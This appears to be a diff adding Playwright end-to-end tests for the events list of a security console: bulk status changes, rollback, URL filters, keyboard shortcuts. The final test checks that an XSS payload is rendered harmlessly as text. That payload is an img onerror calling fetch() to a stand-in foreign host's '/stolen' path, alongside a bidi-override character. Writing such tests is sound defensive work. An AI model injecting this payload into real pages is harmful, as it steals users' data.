@@ -1,0 +1,116 @@
+import { describe, expect, test } from '@jest/globals';
+import type { Page } from 'playwright-core';
+import { FOREIGN_HOST, makeEvent } from '../../apps/console/mock/events-data.ts';
+import { setStage, until } from './console/stage.ts';
+
+const stage = setStage();
+
+const firstStatus = (page: Page): Promise<string> => page.locator('article').first().getAttribute('aria-label').then(String);
+
+describe('events', () => {
+  test('a bulk change shows at once, says how it went, and can be taken back', async () => {
+    const page = await stage.openPage('en', 'light');
+    await stage.visit(page, '/');
+    await page.waitForSelector('article');
+    await page.click('role=checkbox[name="Select all on this page"]');
+    const chosen = await page.locator('article[data-selected=true]').count();
+    expect(chosen).toBeGreaterThan(3);
+    await page.locator('role=group[name="Set status"]').first().getByText('Fixed').click();
+    await page.waitForSelector(`text=Status of ${chosen} events changed: Fixed`);
+    expect(await firstStatus(page)).toContain('Fixed');
+    expect(stage.world().events.filter((event) => event.status === 'fixed').length).toBeGreaterThanOrEqual(chosen);
+    await page.click('role=button[name="Undo"]');
+    await page.waitForSelector('article[aria-label*="Open"]');
+    expect(await firstStatus(page)).toContain('Open');
+  });
+
+  test('a change that the server refuses is rolled back', async () => {
+    const page = await stage.openPage('en', 'light');
+    await stage.visit(page, '/');
+    await page.waitForSelector('article');
+    const id = String(await page.locator('article').first().getAttribute('id')).replace('event-', '');
+    const answer = { code: 'unavailable', message: 'x', request_id: 'req-1' };
+    stage.world().refusals.set(`POST /api/events/${id}/change_status/`, { status: 503, answer });
+    stage.world().delayMs = 1500;
+    await page.locator('article').first().getByText('Fixed', { exact: true }).click();
+    await page.waitForSelector('article[aria-label*="Fixed"]');
+    await page.waitForSelector('text=The service is unavailable for now');
+    await page.waitForSelector(`#event-${id}[aria-label*="Open"]`);
+  });
+
+  test('filters, page and size live in the URL; back works', async () => {
+    const page = await stage.openPage('en', 'light');
+    await stage.visit(page, '/');
+    await page.click('role=radio[name="All"]');
+    await page.waitForURL('**/?status=all');
+    await page.waitForSelector('article[aria-label*="False positive"]');
+    await page.click('role=button[name="Page 2"]');
+    await page.waitForURL('**/?status=all&page=2');
+    await page.click('role=checkbox[name="GitHub"]');
+    await page.waitForURL('**/?status=all&source_type=github');
+    await page.goBack();
+    await page.waitForURL('**/?status=all&page=2');
+    expect(await page.locator('role=radio[name="All"]').isChecked()).toBe(true);
+    await stage.visit(page, '/?status=closed&size=20');
+    await page.waitForSelector('article');
+    expect(await page.locator('role=radio[name="Closed"]').isChecked()).toBe(true);
+  });
+
+  test('events of the same file change together where the person says so', async () => {
+    const world = stage.world();
+    world.events = [
+      makeEvent(40, { status: 'open', owner_status: true, same_file: true, file_path: 'one/file' }),
+      makeEvent(39, { status: 'open', file_path: 'one/file' }),
+    ];
+    const page = await stage.openPage('en', 'light');
+    await stage.visit(page, '/');
+    await page.waitForSelector('article');
+    await page.locator('article').first().getByText('Fixed', { exact: true }).click();
+    await page.waitForSelector('text=There is 1 more event of the file one/file');
+    await page.click('role=button[name="Change all (2)"]');
+    await until(() => stage.world().events.every((event) => event.status === 'fixed'));
+  });
+
+  test('new events are offered, and do not move what is being read', async () => {
+    const page = await stage.openPage('en', 'light');
+    await stage.visit(page, '/');
+    await page.waitForSelector('article');
+    await page.keyboard.press('j');
+    const first = await page.locator('article').first().getAttribute('id');
+    stage.world().events = [makeEvent(60, { status: 'open' }), ...stage.world().events];
+    await page.waitForSelector('text=1 new: show');
+    expect(await page.locator('article').first().getAttribute('id')).toBe(first);
+    await page.click('text=1 new: show');
+    await page.waitForFunction((id) => document.querySelector('article')?.id !== id, first);
+  });
+
+  test('keys choose and change; they are listed under ?', async () => {
+    const page = await stage.openPage('en', 'light');
+    await stage.visit(page, '/');
+    await page.waitForSelector('article');
+    await page.keyboard.press('j');
+    await page.keyboard.press('x');
+    await page.waitForSelector('text=1 event selected');
+    await page.keyboard.press('2');
+    await page.waitForSelector('text=Status of 1 event changed: In progress');
+    await page.keyboard.press('?');
+    await page.waitForSelector('role=dialog[name="Keyboard shortcuts"]');
+    await page.keyboard.press('Escape');
+    await page.waitForSelector('role=dialog', { state: 'detached' });
+  });
+
+  test('hostile content is text: nothing runs, nothing is asked for, no odd address becomes a link', async () => {
+    const page = await stage.openPage('en', 'light');
+    await stage.visit(page, '/?status=all&size=50');
+    await page.waitForSelector('article');
+    const text = await page.locator('article', { hasText: 'web/index.html' }).first().innerText();
+    expect(text).toContain(`<img src=x onerror="fetch('${FOREIGN_HOST}/stolen')">`);
+    expect(text).toContain('U+202E');
+    expect(await page.locator('article img, article script').count()).toBe(0);
+    expect(await page.evaluate('window.hacked')).toBeUndefined();
+    const addresses = await page.locator('article a').evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? ''));
+    expect(addresses.filter((address) => !/^(https?:\/\/|\/)/.test(address))).toEqual([]);
+    const outward = await page.locator('article a[href^="http"]').first().getAttribute('rel');
+    expect(outward).toBe('noopener noreferrer');
+  });
+});
